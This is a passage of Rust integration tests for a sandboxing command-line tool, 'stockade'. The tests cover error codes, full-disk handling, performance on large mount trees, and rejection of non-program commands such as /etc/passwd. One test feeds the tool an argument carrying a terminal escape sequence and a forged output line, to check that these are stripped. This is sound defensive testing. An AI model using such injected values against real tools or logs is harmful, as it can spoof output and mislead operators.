            assert!(output.status.code() == Some(125) && all, "{words:?}: {}", said(&output));
        }
        // The value of an option that may have none, in the place of the profile.
        for (words, help) in [
            (["run", "--changes", "diff", "base"], "comes after `=`: --changes=diff"),
            (["run", "--explain", "live", "base"], "comes after `=`: --explain=live"),
            (["run", "--stats", "diff", "base"], "stockade run default -- diff base"),
        ] {
            let output = place.stockade(who).args(words).output().unwrap();
            let all = said(&output).split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(output.status.code() == Some(125) && all.contains(help), "{words:?}: {all}");
        }
        // A command that is missing has its place in the line that was written.
        let path = place.file("none.toml", "format = 1\n").display().to_string();
        for command in ["check", "plan", "run"] {
            let output = place.stockade(who).args([command, &path]).output().unwrap();
            let all = said(&output).split_whitespace().collect::<Vec<_>>().join(" ");
            let help = format!("after the profile: stockade {command} {path} COMMAND");
            assert!(all.contains(&help), "{all}");
        }
        let bare = place.stockade(who).output().unwrap();
        assert!(
            bare.status.code() == Some(125) && text(&bare.stderr).contains("Commands:"),
            "{}",
            said(&bare)
        );
        let hostile = place.stockade(who).args(["ru\u{1b}[31mn\nforged: x"]).output().unwrap();
        assert!(
            !text(&hostile.stderr).contains('\u{1b}')
                && !text(&hostile.stderr).contains("\nforged"),
            "{}",
            said(&hostile)
        );
    });
}

#[test]
fn a_full_disk_is_no_success() {
    each(|place, who| {
        let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
        for words in [
            &["plan", "base", "true"][..],
            &["check", "base", "true"],
            &["schema"],
            &["profiles"],
            &["explain"],
        ] {
            let output = place.stockade(who).args(words).stdout(full()).output().unwrap();
            assert!(
                output.status.code() == Some(125) && text(&output.stderr).contains("no space left"),
                "{words:?}: {}",
                said(&output)
            );
        }
    });
}

/// Trees that are deep, and trees that are wide: the time is about that of reading them.
#[test]
fn a_deep_and_a_wide_tree_are_planned_and_explained_in_time() {
    let place = Place::new();
    let deep = "/a".repeat(1_900);
    let many: String = (0..4_000)
        .map(|n| format!("\"/w/{n}\" = {{ bind = \"/srv\", access = \"ro\" }}\n"))
        .collect();
    let writable = place.folder("writable", As::User);
    let wide: String = (0..4_000)
        .map(|n| format!("\"/w/{n}\" = {{ bind = \"{}\", access = \"rw\" }}\n", writable.display()))
        .collect();
    for profile in [
        format!("{BASE}[mounts]\n\"{deep}\" = \"tmpfs\"\n"),
        format!("{BASE}[mounts]\n{many}"),
        format!("{BASE}[mounts]\n{wide}"),
    ] {
        for (words, question) in [
            (&["plan"][..], &[][..]),
            (&["plan", "--format", "json"], &[]),
            (&["why", "--no-change"], &[&*deep]),
        ] {
            let start = Instant::now();
            let output = stockade(&place, As::User, words, &profile, question);
            let cut: String = profile.chars().skip(BASE.len()).take(40).collect();
            assert!(
                output.status.code().is_some_and(|status| status < 2),
                "{words:?}: {cut}: {}",
                text(&output.stderr)
            );
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "{words:?}: {cut}: {:?}",
                start.elapsed()
            );
            eprintln!("{:?} {words:?} {cut}", start.elapsed());
        }
    }
}

#[test]
fn a_command_that_is_no_program_is_named_as_what_it_is() {
    let place = Place::new();
    for who in As::all() {
        let said = |words: &[&str]| {
            let output = place.stockade(*who).args(words).output().unwrap();
            let said = text(&output.stdout) + &text(&output.stderr);
            (output.status.code(), said.split_whitespace().collect::<Vec<_>>().join(" "))
        };
        for (command, why) in
            [("/etc/passwd", "it is a file that stockade"), ("/usr", "it is a directory")]
        {
            let why = format!("cannot run `{command}`: {why}");
            let (status, run) = said(&["run", "base", command]);
            assert!(status == Some(126) && run.contains(&why), "{who:?}: {status:?} {run}");
            let (_, check) = said(&["check", "base", command]);
            assert!(check.contains(&why), "{who:?}: {check}");
        }
        // The twin: a program at such a path is run.
        assert_eq!(said(&["run", "-q", "base", "/bin/true"]).0, Some(0), "{who:?}");
    }
}
